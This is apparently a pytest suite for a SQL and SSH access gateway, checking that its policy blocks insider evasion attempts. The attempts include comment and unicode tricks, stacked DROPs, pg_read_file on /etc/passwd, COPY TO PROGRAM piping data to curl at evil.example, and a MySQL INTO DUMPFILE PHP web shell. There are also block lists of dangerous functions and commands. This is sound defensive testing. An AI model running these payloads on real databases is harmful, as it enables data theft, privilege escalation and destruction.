"""The policy decision, and the evasion suite: an insider trying to get a forbidden statement
through a policy that forbids it. Every attempt must be blocked or held, never allowed; and what
real clients send on their own must still pass under the same policy.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from central.config import Config, parse_config
from central.policy.rules import Decision, SqlPolicy, SshPolicy
from central.policy.sql import SqlDialect, classify
from tests.central.policy.test_sql import CLIENT_STARTUP, PSQL_QUERIES

RESOURCES = [
    {"name": "pg-prod", "kind": "postgres", "address": "127.0.0.1:5432", "username": "app"},
    {"name": "pg-dev", "kind": "postgres", "address": "127.0.0.1:5432", "username": "app"},
    {"name": "my-prod", "kind": "mysql", "address": "127.0.0.1:3306", "username": "app"},
    {
        "name": "ssh-prod",
        "kind": "ssh",
        "address": "127.0.0.1:22",
        "username": "ops",
        "host_key": "ssh-ed25519 AAAA",
    },
]

# What the insider is up against: destructive DDL, row deletion, role changes, server files
# and other servers, shell commands through COPY.
BLOCK_RULES: list[dict[str, Any]] = [
    {
        "name": "no-destructive-sql",
        "resources": ["*-prod"],
        "action": "block",
        "statements": [
            "drop",
            "truncate",
            "alter role",
            "create role",
            "grant",
            "delete",
            "create table",
            "copy program",
            "copy file",
        ],
    },
    {
        "name": "no-server-files",
        "resources": ["*-prod"],
        "action": "block",
        "functions": [
            "pg_read_file",
            "pg_read_binary_file",
            "pg_ls_dir",
            "lo_*",
            "dblink*",
            "load_file",
        ],
    },
]
REVIEW_RULE: dict[str, Any] = {
    "name": "review-updates",
    "resources": ["pg-prod", "my-prod"],
    "action": "review",
    "statements": ["update"],
}


def make_config(rules: list[dict[str, Any]]) -> Config:
    return parse_config({"resources": RESOURCES, "rules": rules}, Path("/tmp/watchgate.toml"))


STRICT = SqlPolicy(make_config(BLOCK_RULES))  # no review: opaque statements are blocked
WITH_REVIEW = SqlPolicy(make_config([*BLOCK_RULES, REVIEW_RULE]))  # opaque ones are held

# --- the evasion suite ------------------------------------------------------------------------

PG_EVASIONS = [
    # comments inside and around keywords
    "/*x*/DROP/*y*/TABLE t",
    "DROP/**/TABLE/**/t",
    "-- harmless\nDROP TABLE t",
    "DROP -- harmless\nTABLE t",
    "DROP /* ; */ TABLE t",
    "/* /* nested */ still a comment */ DROP TABLE t",
    "SELECT 1 /* /* */ */; DROP TABLE t",
    "DR/**/OP TABLE t",  # a syntax error in PostgreSQL; must not pass as anything harmless
    "TRUNCATE/**/t",
    # case and whitespace games
    "dRoP tAbLe t",
    "DROP\tTABLE\tt",
    "DROP\nTABLE\nt",
    "DROP\r\nTABLE t",
    "DROP\fTABLE t",
    "DROP\vTABLE t",
    "\u00a0DROP TABLE t",
    "DROP\u00a0TABLE t",
    "DROP\u2003TABLE t",
    "   DROP     TABLE   t   ",
    "truncate TABLE ONLY t",
    "alter\trole bob superuser",
    "ALTER USER bob SUPERUSER",
    "ALTER GROUP admins ADD USER bob",
    # stacked statements
    "SELECT 1; DROP TABLE t",
    "SELECT 1;DROP TABLE t",
    "SELECT 1\n;\nTRUNCATE t",
    "BEGIN; DROP TABLE t; COMMIT",
    "SET application_name = 'x'; ALTER ROLE bob SUPERUSER",
    "SELECT ';'; DROP TABLE t",
    "SELECT $$;$$; DROP TABLE t",
    "SELECT E'\\''; DROP TABLE t; --'",
    # strings whose end depends on a server setting
    "SELECT 'a\\'; DROP TABLE t; --'",
    # dollar quoting
    "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
    "DO $x$ BEGIN DROP TABLE t; END $x$",
    "DO LANGUAGE plpgsql 'BEGIN DROP TABLE t; END'",
    "SELECT $a$ $$ $a$; DROP TABLE t",
    # quoted and unicode-escaped identifiers
    "SELECT \"pg_read_file\"('/etc/passwd')",
    "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
    "SELECT U&\"!0070g_read_file\" UESCAPE '!' ('/etc/passwd')",
    "SELECT U&\"\\+000070g_read_file\"('/etc/passwd')",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
    "SELECT PG_READ_FILE('/etc/passwd')",
    "SELECT pg_catalog . pg_read_file ( '/etc/passwd' )",
    "SELECT pg_read_file/**/('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    'DROP TABLE "t"',
    'TRUNCATE "T"',
    # writes in CTEs
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "WITH a AS (SELECT 1), d AS (DELETE FROM t) SELECT * FROM a",
    "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    # side-effect functions in a SELECT
    "SELECT * FROM t WHERE pg_read_file('/etc/passwd') IS NOT NULL",
    "SELECT (SELECT pg_read_file('/etc/passwd'))",
    "SELECT * FROM t ORDER BY pg_read_file('/etc/passwd')",
    "SELECT * FROM t, LATERAL pg_ls_dir('/') d",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT * FROM ROWS FROM (pg_ls_dir('/'))",
    "SELECT lo_export(16384, '/tmp/x')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_catalog.lo_from_bytea(0, 'x')",
    "SELECT dblink_exec('dbname=prod', 'DROP TABLE t')",
    "SELECT * FROM dblink('dbname=prod', 'SELECT 1') AS x(a int)",
    "SELECT public.dblink_exec('c', 'DROP TABLE t')",
    "VALUES (pg_read_file('/etc/passwd'))",
    "INSERT INTO t SELECT pg_read_file('/etc/passwd')",
    "UPDATE t SET a = lo_export(1, '/tmp/x')",
    "SELECT CASE WHEN true THEN pg_read_file('/etc/passwd') END",
    "SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') <> '') FROM t",
    "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
    "ALTER TABLE t ALTER COLUMN a SET DEFAULT pg_read_file('/etc/passwd')",
    "CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))",
    # prepared statements
    "PREPARE p AS DELETE FROM t",
    "PREPARE p (text) AS SELECT pg_read_file($1)",
    "PREPARE p AS DELETE FROM t; EXECUTE p",
    "EXECUTE p",  # a name the gateway has not seen: opaque
    "EXECUTE p (pg_read_file('/etc/passwd'))",
    "DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')",
    # DO blocks, function bodies, procedures
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
    "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
    "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
    "CALL p()",
    "CALL p(pg_read_file('/etc/passwd'))",
    # COPY
    "COPY t TO PROGRAM 'curl -d @- https://evil.example'",
    "copy t from program 'id'",
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "COPY t FROM '/etc/passwd'",
    "COPY t TO '/tmp/dump'",
    "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
    "COPY t FROM STDIN WHERE pg_read_file('/etc/passwd') IS NULL",
    # EXPLAIN ANALYZE runs its statement
    "EXPLAIN ANALYZE DELETE FROM t",
    "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
    "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
    # statements that create tables
    "CREATE TABLE stolen AS SELECT * FROM t",
    "SELECT * INTO stolen FROM t",
    # ALTER ROLE, and the session tricks around it
    "ALTER ROLE bob SUPERUSER",
    "ALTER ROLE bob SET search_path = evil",
    "CREATE ROLE evil SUPERUSER LOGIN",
    "GRANT pg_read_server_files TO bob",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SELECT set_config('role', 'postgres', false)",
    "SET session_replication_role = replica",
    "SET client_encoding = 'SJIS'",
    "SET standard_conforming_strings = off",
    "LOAD '/tmp/evil.so'",
    "CREATE EXTENSION dblink",
    "ALTER SYSTEM SET archive_command = 'curl https://evil.example'",
    # text the server would reject but that must not slip through as harmless
    "SELECT 'unterminated; DROP TABLE t",
    "SELECT 1 /* unterminated; DROP TABLE t",
]

MY_EVASIONS = [
    "DROP TABLE `t`",
    "drop/**/table t",
    "dRoP\tTaBlE t",
    "DROP\nTABLE t",
    "TRUNCATE TABLE t",
    "DELETE FROM t",
    "SELECT 1; DROP TABLE t",
    "SELECT 1 --x\n; DROP TABLE t",
    "SELECT 1 --; DROP TABLE t",  # `--` without a space is not a comment in MySQL
    "SELECT 1 /* /* */ ; DROP TABLE t */",  # comments do not nest in MySQL
    "/*!50000 DROP TABLE t */",
    "/*!DROP TABLE t*/",
    "SELECT 1 /*!50000 ; DROP TABLE t */",
    "SELECT 1 /*M! ; DROP TABLE t */",
    "SELECT 'a\\'; DROP TABLE t; -- '",
    'SELECT "a\\"; DROP TABLE t; -- "',
    "SELECT load_file('/etc/passwd')",
    "SELECT `load_file`('/etc/passwd')",
    "SELECT LOAD_FILE ('/etc/passwd')",
    "SET @x = (SELECT load_file('/etc/passwd'))",
    "SHOW TABLES WHERE load_file('/etc/passwd') IS NOT NULL",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
    "SELECT * FROM t INTO OUTFILE '/var/lib/mysql-files/t.csv'",
    "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'",
    "PREPARE s FROM 'DROP TABLE t'",
    "PREPARE s FROM @q; EXECUTE s",
    "CALL p()",
    "DO load_file('/etc/passwd')",
    "REPLACE INTO t SELECT load_file('/etc/passwd')",
    "SET NAMES gbk",
    "SET GLOBAL general_log = 'OFF'",
    "SET sql_log_bin = 0",
    "CREATE DEFINER=`root`@`%` PROCEDURE p() BEGIN DROP TABLE t; END",
    "INSTALL PLUGIN evil SONAME 'evil.so'",
]

EVASIONS: list[tuple[SqlDialect, str, str]] = [("postgres", "pg-prod", s) for s in PG_EVASIONS] + [
    ("mysql", "my-prod", s) for s in MY_EVASIONS
]


@pytest.mark.parametrize(("dialect", "resource", "sql"), EVASIONS)
def test_evasion_is_blocked_without_review(dialect: SqlDialect, resource: str, sql: str) -> None:
    decision = STRICT.decide(resource, sql, dialect)
    assert decision.action == "block", decision
    assert decision.rule in ("no-destructive-sql", "no-server-files")


@pytest.mark.parametrize(("dialect", "resource", "sql"), EVASIONS)
def test_evasion_is_blocked_or_held_with_review(
    dialect: SqlDialect, resource: str, sql: str
) -> None:
    decision = WITH_REVIEW.decide(resource, sql, dialect)
    assert decision.action in ("block", "review"), decision


def test_execute_of_a_known_forbidden_statement_is_blocked() -> None:
    prepared = {"purge": "DELETE FROM t WHERE id = $1", "look": "SELECT pg_read_file($1)"}
    assert STRICT.decide("pg-prod", "EXECUTE purge (1)", "postgres", prepared).action == "block"
    assert STRICT.decide("pg-prod", "EXECUTE look ('x')", "postgres", prepared).action == "block"
    assert STRICT.decide("pg-prod", "EXECUTE other", "postgres", prepared).action == "block"
    fine = {"q": "SELECT * FROM orders WHERE id = $1"}
    assert STRICT.decide("pg-prod", "EXECUTE q (1)", "postgres", fine).action == "allow"


def test_known_string_mode_is_passed_through() -> None:
    sql = "SELECT 'a\\'; DROP TABLE t; -- '"
    assert STRICT.decide("my-prod", sql, "mysql", backslash_escapes=False).action == "block"
    assert STRICT.decide("my-prod", sql, "mysql", backslash_escapes=True).action == "allow"
    assert STRICT.decide("my-prod", sql, "mysql").action == "block"  # unknown: opaque


# --- what must still pass ---------------------------------------------------------------------

ORDINARY: list[tuple[SqlDialect, str]] = [
    ("postgres", "SELECT * FROM orders WHERE id = 1"),
    ("postgres", "SELECT o.id, sum(l.amount) FROM orders o JOIN lines l USING (id) GROUP BY 1"),
    ("postgres", "INSERT INTO orders (id, note) VALUES (1, 'drop table t; -- not code')"),
    ("postgres", "SELECT $$DROP TABLE t$$ AS text_not_code"),
    ("postgres", "SELECT 'pg_read_file(''/etc/passwd'')' AS also_text"),
    ("postgres", "SELECT 1 -- DROP TABLE t"),
    ("postgres", "WITH x AS (SELECT 1) SELECT * FROM x"),
    ("postgres", "SELECT * FROM orders FOR UPDATE"),
    ("postgres", "COPY orders TO STDOUT WITH (FORMAT csv)"),
    ("postgres", "COPY orders FROM STDIN"),
    ("postgres", "EXPLAIN SELECT * FROM orders"),
    ("postgres", "PREPARE q AS SELECT * FROM orders WHERE id = $1; EXECUTE q (1)"),
    ("postgres", "DECLARE c CURSOR FOR SELECT * FROM orders; FETCH 10 FROM c; CLOSE c"),
    ("postgres", "ALTER TABLE orders ADD COLUMN note text"),
    ("postgres", "SELECT set_config('application_name', 'report', false)"),
    ("postgres", "BEGIN; INSERT INTO orders VALUES (2); COMMIT"),
    ("mysql", "SELECT * FROM `orders` WHERE id = 1"),
    ("mysql", "INSERT INTO orders VALUES (1, 'DROP TABLE t')"),
    ("mysql", "SELECT 1 /* DROP TABLE t */"),
    ("mysql", "SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM orders"),
    ("mysql", "SELECT 1 # DROP TABLE t"),
    ("mysql", "LOAD DATA LOCAL INFILE 'orders.csv' INTO TABLE orders"),
]
CLIENT_TRAFFIC: list[tuple[SqlDialect, str]] = [(d, s) for d, s, _ in CLIENT_STARTUP] + [
    ("postgres", q) for _, q in PSQL_QUERIES
]


@pytest.mark.parametrize(("dialect", "sql"), ORDINARY + CLIENT_TRAFFIC)
def test_what_real_clients_and_users_send_is_allowed(dialect: SqlDialect, sql: str) -> None:
    resource = "pg-prod" if dialect == "postgres" else "my-prod"
    for policy in (STRICT, WITH_REVIEW):
        decision = policy.decide(resource, sql, dialect)
        assert decision.action == "allow", decision


# --- property: mutations of blocked statements never pass -------------------------------------

BLOCKED_PG = [
    "DROP TABLE t",
    "TRUNCATE t",
    "ALTER ROLE bob SUPERUSER",
    "DELETE FROM t WHERE id = 1",
    "SELECT pg_read_file ( '/etc/passwd' )",
    "SELECT lo_export ( 16384 , '/tmp/x' )",
    "SELECT dblink_exec ( 'dbname=x' , 'x' )",
    "COPY t TO PROGRAM 'id'",
    "WITH d AS ( DELETE FROM t RETURNING * ) SELECT * FROM d",
    "PREPARE p AS DELETE FROM t",
    "EXPLAIN ANALYZE DELETE FROM t",
    "SELECT * FROM t WHERE a IN ( SELECT pg_read_file ( 'x' ) )",
]
BLOCKED_MY = [
    "DROP TABLE t",
    "TRUNCATE TABLE t",
    "DELETE FROM t",
    "SELECT load_file ( '/etc/passwd' )",
    "SELECT a FROM t INTO OUTFILE '/tmp/x'",
]
PG_GAPS = [" ", "\t", "\n", "\r\n", "\f", "/**/", "/* x */", "/* /* */ */", " -- c\n", "\n--\r"]
MY_GAPS = [" ", "\t", "\n", "\r\n", "\f", "/**/", "/* x */", " -- c\n", " #c\n", "\n#\r"]
PREFIXES = ["", "SELECT 1;", "/* hi */", "-- hi\n", "SET application_name = 'x';", "BEGIN;"]


def _mutate(data: st.DataObject, statement: str, gaps: list[str]) -> str:
    """The statement with random separators between tokens, random case on keywords and
    identifiers (not inside literals), and a random harmless statement or comment in front."""
    out = []
    for token in statement.split(" "):
        if token.isidentifier():
            flips = data.draw(st.lists(st.booleans(), min_size=len(token), max_size=len(token)))
            token = "".join(
                c.upper() if f else c.lower() for c, f in zip(token, flips, strict=True)
            )
        out.append(token)
        out.append(data.draw(st.sampled_from(gaps)))
    return data.draw(st.sampled_from(PREFIXES)) + "".join(out)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutations_of_blocked_statements_never_pass(data: st.DataObject) -> None:
    dialect: SqlDialect = data.draw(st.sampled_from(["postgres", "mysql"]))
    if dialect == "postgres":
        sql, resource = _mutate(data, data.draw(st.sampled_from(BLOCKED_PG)), PG_GAPS), "pg-prod"
    else:
        sql, resource = _mutate(data, data.draw(st.sampled_from(BLOCKED_MY)), MY_GAPS), "my-prod"
    assert STRICT.decide(resource, sql, dialect).action == "block", sql
    assert WITH_REVIEW.decide(resource, sql, dialect).action != "allow", sql


# --- decision semantics -----------------------------------------------------------------------


def policy(*rules: dict[str, Any]) -> SqlPolicy:
    return SqlPolicy(make_config(list(rules)))


def rule(action: str, **fields: Any) -> dict[str, Any]:
    return {"resources": ["pg-prod"], "action": action, **fields}


def test_statement_entries_match_by_word_prefix() -> None:
    p = policy(rule("block", statements=["drop"]), rule("block", statements=["alter role"]))
    assert p.decide("pg-prod", "DROP TABLE t", "postgres").action == "block"
    assert p.decide("pg-prod", "DROP VIEW v", "postgres").action == "block"
    assert p.decide("pg-prod", "ALTER ROLE bob LOGIN", "postgres").rule == "rules[1]"
    assert p.decide("pg-prod", "ALTER TABLE t ADD c int", "postgres").action == "allow"
    # "drop" is a word prefix, not a string prefix
    assert (
        policy(rule("block", statements=["dro"]))
        .decide("pg-prod", "DROP TABLE t", "postgres")
        .action
        == "allow"
    )


def test_statement_entries_ignore_case_and_spacing() -> None:
    p = policy(rule("block", statements=["  ALTER \t Role "]))
    assert p.decide("pg-prod", "alter role bob nologin", "postgres").action == "block"


def test_statement_globs() -> None:
    p = policy(rule("block", statements=["create *"]))
    assert p.decide("pg-prod", "CREATE INDEX i ON t (a)", "postgres").action == "block"
    assert p.decide("pg-prod", "SELECT 1", "postgres").action == "allow"


def test_inner_kinds_match_and_are_named() -> None:
    p = policy(rule("block", name="no-delete", statements=["delete"]))
    decision = p.decide("pg-prod", "WITH d AS (DELETE FROM t RETURNING *) SELECT 1", "postgres")
    assert decision == Decision(
        "block",
        "no-delete",
        "statement kind 'delete' (inside this select) is blocked by rule no-delete",
    )


def test_function_globs_match_bare_and_qualified_names() -> None:
    p = policy(rule("block", functions=["lo_*"]), rule("review", functions=["pg_catalog.*"]))
    assert p.decide("pg-prod", "SELECT lo_unlink(1)", "postgres").action == "block"
    decision = p.decide("pg-prod", "SELECT pg_catalog.now()", "postgres")
    assert decision.action == "review"
    assert p.decide("pg-prod", "SELECT now()", "postgres").action == "allow"


def test_reasons() -> None:
    p = policy(
        rule("block", name="no-ddl", statements=["drop"]),
        rule("review", name="watch", functions=["pg_sleep"]),
    )
    assert p.decide("pg-prod", "DROP TABLE t", "postgres") == Decision(
        "block", "no-ddl", "statement kind 'drop table' is blocked by rule no-ddl"
    )
    assert p.decide("pg-prod", "SELECT pg_sleep(1)", "postgres") == Decision(
        "review", "watch", "function pg_sleep needs approval under rule watch"
    )
    opaque = p.decide("pg-prod", "DO $$ BEGIN END $$", "postgres")
    assert opaque.action == "review"
    assert opaque.reason.startswith("the statement could not be classified (a DO block")
    assert opaque.reason.endswith("treated as the riskiest kind: held for review by rule watch")


def test_block_beats_review_beats_allow() -> None:
    p = policy(
        rule("review", name="r", statements=["delete"]),
        rule("block", name="b", functions=["pg_read_file"]),
    )
    assert p.decide("pg-prod", "DELETE FROM t", "postgres").action == "review"
    both = p.decide("pg-prod", "DELETE FROM t WHERE a = pg_read_file('x')", "postgres")
    assert (both.action, both.rule) == ("block", "b")


def test_strictest_statement_wins_and_is_named() -> None:
    p = policy(
        rule("review", name="r", statements=["delete"]),
        rule("block", name="b", statements=["drop"]),
    )
    decision = p.decide("pg-prod", "SELECT 1; DELETE FROM t; DROP TABLE t; SELECT 2", "postgres")
    assert (decision.action, decision.rule) == ("block", "b")
    assert decision.reason.startswith("statement 3 of 4: ")
    held = p.decide("pg-prod", "SELECT 1; DELETE FROM t", "postgres")
    assert (held.action, held.reason.split(":")[0]) == ("review", "statement 2 of 2")


def test_opaque_is_the_riskiest_kind_the_resource_allows() -> None:
    do = "DO $$ BEGIN END $$"
    assert policy(rule("block", statements=["drop"])).decide("pg-prod", do, "postgres").action == (
        "block"
    )
    both = policy(rule("block", statements=["drop"]), rule("review", statements=["update"]))
    assert both.decide("pg-prod", do, "postgres").action == "review"
    assert both.decide("pg-prod", "ALTER ROLE bob SUPERUSER", "postgres").action == "review"
    # ... unless the statement's own kind is blocked outright
    direct = policy(rule("block", statements=["alter role"]), rule("review", statements=["x"]))
    assert direct.decide("pg-prod", "ALTER ROLE bob SUPERUSER", "postgres").action == "block"


def test_opaque_is_allowed_where_no_sql_rule_applies() -> None:
    p = SqlPolicy(
        make_config(
            [
                {"resources": ["pg-dev"], "action": "block", "statements": ["drop"]},
                {"resources": ["pg-prod"], "action": "block", "commands": ["rm *"]},
                {"resources": ["pg-prod"], "action": "mask", "columns": ["*.ssn"]},
            ]
        )
    )
    for sql in ("DO $$ BEGIN END $$", "SELECT 'unterminated", "DROP TABLE t"):
        assert p.decide("pg-prod", sql, "postgres").action == "allow"
    assert p.decide("pg-dev", "DO $$ BEGIN END $$", "postgres").action == "block"


def test_resource_globs_and_unknown_resources() -> None:
    assert STRICT.decide("pg-dev", "DROP TABLE t", "postgres").action == "allow"
    assert STRICT.decide("pg-prod", "DROP TABLE t", "postgres").action == "block"
    assert STRICT.decide("no-such-resource", "DROP TABLE t", "postgres").action == "allow"


def test_empty_text_is_allowed() -> None:
    assert STRICT.decide("pg-prod", "", "postgres").action == "allow"
    assert STRICT.decide("pg-prod", " ; -- nothing", "postgres").action == "allow"


def test_decide_classification_reuses_a_classification() -> None:
    classification = classify("DROP TABLE t", "postgres")
    assert STRICT.decide_classification("pg-prod", classification).action == "block"


# --- commands (SSH) ---------------------------------------------------------------------------


def test_commands_are_globs_over_the_normalized_line() -> None:
    p = SqlPolicy(
        make_config(
            [
                {"resources": ["ssh-prod"], "action": "block", "commands": ["*rm -rf*"]},
                {"resources": ["ssh-prod"], "action": "review", "commands": ["sudo *"]},
            ]
        )
    )
    assert p.decide_command("ssh-prod", "rm   -rf\t/") == Decision(
        "block", "rules[0]", "the command matches '*rm -rf*' and is blocked by rule rules[0]"
    )
    assert p.decide_command("ssh-prod", "sudo systemctl restart x").action == "review"
    assert p.decide_command("ssh-prod", "sudo rm -rf /").action == "block"
    assert p.decide_command("ssh-prod", "ls -la").action == "allow"
    assert p.decide_command("ssh-prod", "RM -RF /").action == "allow"  # case-sensitive
    assert p.decide_command("pg-prod", "rm -rf /").action == "allow"


# --- SSH: shell, files, forwarding, input recording ------------------------------------------


def _ssh(rules: list[dict[str, Any]]) -> SshPolicy:
    return SshPolicy(SqlPolicy(make_config(rules)), "ssh-prod")


def test_ssh_defaults_allow_shell_refuse_forwarding_and_keep_no_keystrokes() -> None:
    p = _ssh([])
    assert p.decide_shell().action == "allow"
    assert p.decide_file("open", "/etc/shadow").action == "allow"
    forward = p.decide_forward("127.0.0.1", 5432)
    assert forward.action == "block"
    assert "port forwarding to 127.0.0.1:5432 is not allowed on ssh-prod" in forward.reason
    assert p.record_input is False
    assert p.has_command_rules is False
    assert p.agent_rule is None


def test_ssh_exec_only_rule_blocks_the_shell_of_its_resources_only() -> None:
    rules = [{"name": "exec-only", "resources": ["ssh-prod"], "action": "block", "shell": False}]
    decision = _ssh(rules).decide_shell()
    assert decision.action == "block" and decision.rule == "exec-only"
    assert "interactive shells are not allowed on ssh-prod" in decision.reason
    other = SshPolicy(SqlPolicy(make_config(rules)), "ssh-dev")
    assert other.decide_shell().action == "allow"


def test_ssh_file_rules_match_either_path_of_an_operation() -> None:
    p = _ssh([{"name": "no-etc", "resources": ["ssh-*"], "action": "block", "files": ["/etc/*"]}])
    assert p.decide_file("open", "/etc/passwd").action == "block"
    assert p.decide_file("open", "/etc/ssh/sshd_config").action == "block"  # * crosses /
    assert p.decide_file("rename", "/tmp/a", "/etc/cron.d/x").action == "block"
    assert p.decide_file("symlink", "/tmp/link", "/etc/shadow").action == "block"
    assert p.decide_file("open", "/tmp/etc/x").action == "allow"
    assert "open /etc/passwd matches '/etc/*' and is blocked by rule no-etc" in (
        p.decide_file("open", "/etc/passwd").reason
    )


def test_ssh_forwarding_needs_an_allow_rule_naming_the_destination() -> None:
    p = _ssh(
        [
            {
                "name": "db-tunnel",
                "resources": ["ssh-prod"],
                "action": "allow",
                "forward": ["127.0.0.1:5432", "db-*.internal:*"],
                "agent": True,
            }
        ]
    )
    assert p.decide_forward("127.0.0.1", 5432) == Decision(
        "allow", "db-tunnel", "forwarding to 127.0.0.1:5432 is allowed by db-tunnel"
    )
    assert p.decide_forward("db-1.internal", 6432).action == "allow"
    assert p.decide_forward("127.0.0.1", 22).action == "block"
    assert p.decide_forward("localhost", 5432).action == "block"  # names are not resolved
    assert p.agent_rule == "db-tunnel"


def test_ssh_record_input_and_command_rules_are_seen() -> None:
    p = _ssh(
        [
            {"resources": ["ssh-prod"], "action": "allow", "record_input": True},
            {"resources": ["ssh-prod"], "action": "review", "commands": ["sudo *"]},
        ]
    )
    assert p.record_input is True
    assert p.has_command_rules is True
    assert p.decide_command("sudo ls").action == "review"


@pytest.mark.parametrize(
    ("rule", "error"),
    [
        ({"action": "review", "files": ["/etc/*"]}, "files rules can only block"),
        ({"action": "block", "forward": ["a:1"]}, 'belong in rules with action = "allow"'),
        ({"action": "review", "agent": True}, 'belong in rules with action = "allow"'),
        ({"action": "allow", "commands": ["x"]}, "an allow rule takes forward"),
        ({"action": "allow"}, "an allow rule needs forward"),
        ({"action": "allow", "forward": ["nohost"]}, "must be host:port"),
    ],
)
def test_ssh_rule_keys_are_checked(rule: dict[str, Any], error: str) -> None:
    with pytest.raises(Exception, match=error.replace("(", r"\(")):
        make_config([{"resources": ["ssh-prod"], **rule}])
